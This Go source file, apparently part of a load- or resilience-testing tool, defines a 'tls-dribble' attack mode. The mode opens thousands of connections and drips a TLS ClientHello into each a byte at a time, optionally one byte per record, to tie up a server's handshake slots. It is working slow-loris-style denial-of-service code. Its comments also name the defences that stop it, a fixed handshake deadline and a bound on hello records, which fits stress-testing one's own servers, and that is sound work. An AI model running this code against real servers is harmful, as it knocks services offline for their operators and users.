package attack

import (
	"time"

	"weir/bench/target"
)

// tlsDribble sends a ClientHello a few bytes at a time, and holds the connection when it is over.
//
//	attacker                        server
//	   | 22 -----------------------> |  not even a record head: a connection, a buffer, a parser half way
//	   |      ... interval ...       |
//	   | 3 ------------------------> |  a deadline that begins anew with each byte never ends
//
// With -records each byte of the hello comes in a record of its own, six bytes on the wire: legal (RFC 8446, 5.1), and a
// server that looks for the hello in the first record finds next to nothing there.
//
// Aimed at: connection slots before anybody can be told from anybody, and readers of hellos that begin anew with each
// byte.
// What ought to stop it: a deadline for the handshake that arriving bytes do not put off, a bound on a hello's records.
var tlsDribble = Kind{
	Name:  "tls-dribble",
	Help:  "drips a ClientHello a byte at a time into many connections: aims at the slots of unfinished handshakes",
	Units: "drips",
	takes: []string{"count", "size", "interval", "records", "version", "sni"},
	defaults: Options{
		Conns: 2_000, Count: 50_000_000, Size: 1, Interval: time.Second,
		Duration: 30 * time.Second, Sources: 20, Loops: 1, Nice: 10, Version: "1.3",
	},
	total: 1,
	check: func(o Options, t target.Target) error {
		if o.Size < 1 {
			return errDrip
		}
		return onlyTLS(o, t)
	},
	loop: func(r *run) error {
		h, err := newHello(r)
		if err != nil {
			return err
		}
		h.Next()
		size := r.opts.Size
		if r.opts.Records {
			size = min(size, 1<<16) * recordOfOne
		}
		d := newDripper(r, wholeScript(h.Dripped(r.opts.Records)), size)
		d.hear = func(i int32, b []byte) { r.tally(i, b) }
		return d.drip()
	},
}

// recordOfOne is how long a record with one byte in it is.
const recordOfOne = 6

// wholeScript is one that ends.
type wholeScript []byte

func (s wholeScript) Append(dst []byte, offset int64, n int) []byte {
	at := int(min(offset, int64(len(s))))
	return append(dst, s[at:min(len(s), at+n)]...)
}
